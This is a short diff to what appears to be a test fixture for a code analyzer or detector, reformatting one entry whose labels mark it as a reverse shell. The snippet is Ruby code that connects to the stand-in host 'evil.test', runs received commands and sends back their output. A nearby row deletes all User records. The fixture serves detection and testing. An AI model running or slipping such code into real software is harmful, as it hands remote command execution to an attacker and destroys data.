@@ -138,7 +138,8 @@ ROWS: list[tuple[str, str, list[str]]] = [
     ),
     (
         "ruby",
-        "peer = TCPSocket.new('evil.test', 9001)\nwhile line = peer.gets\n  IO.popen(line) { |out| peer.write(out.read) }\nend",
+        "peer = TCPSocket.new('evil.test', 9001)\nwhile line = peer.gets\n"
+        "  IO.popen(line) { |out| peer.write(out.read) }\nend",
         ["send evil.test", "shell <?>", "reverse-shell evil.test"],
     ),
     ("ruby", "User.delete_all; User.where(a: 1).delete_all", ["sql DELETE FROM User"]),
